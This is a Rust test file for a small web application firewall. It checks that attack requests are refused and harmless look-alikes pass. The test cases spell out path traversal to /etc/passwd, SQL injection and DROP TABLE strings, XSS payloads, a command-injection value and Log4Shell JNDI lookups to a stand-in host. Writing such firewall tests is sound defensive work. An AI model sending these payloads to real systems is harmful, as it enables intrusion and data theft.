use tidegate_sdk::{Decision, Rule, fake::FakeWorld, settings};

use crate::{WafLite, plain};

fn word(target: &str, body: &str) -> &'static str {
    let rule = WafLite::new(settings(b"").unwrap().config).unwrap();
    let mut world = FakeWorld::new("POST", target);
    world.carrying(body);
    rule.decide(&world).word()
}

#[test]
fn attacks_are_refused() {
    for target in [
        "/download?file=../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "/download?file=%252e%252e%252f%252e%252e%252fx",
        "/item?id=1%27%20OR%20%271%27=%271",
        "/item?id=1+UNION+SELECT+name,+pass+FROM+users",
        "/item?id=1/**/union/**/select/**/1",
        "/search?q=%3CScRiPt%3Ealert(1)%3C/script%3E",
        "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/?x=${jndi:ldap://evil.example/a}",
        "/?host=localhost;%20cat%20/etc/hosts",
    ] {
        assert_eq!(word(target, ""), "refused", "{target}");
    }
}

#[test]
fn attacks_in_bodies_and_fields_are_refused() {
    assert_eq!(word("/comment", "text=%3Cscript%3Ealert(1)"), "refused");
    assert_eq!(word("/api", r#"{"name": "x'; DROP TABLE users"}"#), "refused");
    let rule = WafLite::new(settings(b"").unwrap().config).unwrap();
    let world = FakeWorld::new("GET", "/").with("user-agent", "${jndi:ldap://evil.example}");
    assert!(matches!(rule.decide(&world), Decision::Refuse(_)));
}

#[test]
fn ordinary_texts_pass() {
    for (target, body) in [
        ("/", ""),
        ("/search?q=select+a+union+representative+from+the+list", ""),
        ("/search?q=drop+table+saw", ""),
        ("/articles/o'reilly-and-sons?page=2", ""),
        ("/search?q=1+or+1", ""),
        ("/blog/javascript-and-scripts", ""),
        ("/form", "comment=I'd+like+two+--+maybe+three&name=D'Arcy"),
        ("/api", r#"{"text": "the cat /dog shelter; script ideas <3"}"#),
        ("/a/..b/c...d", ""),
    ] {
        assert_ne!(word(target, body), "refused", "{target} {body}");
    }
}

#[test]
fn weak_signs_only_label() {
    assert_eq!(word("/?q=document.cookie", ""), "tagged");
    assert_eq!(word("/?q=document.cookie+onerror%3D", ""), "refused");
}

#[test]
fn texts_are_made_plain() {
    assert_eq!(plain("A%20%2542/*x*/C\t\n D%00"), "a b c d");
    assert_eq!(plain("/*open"), "/*open");
}
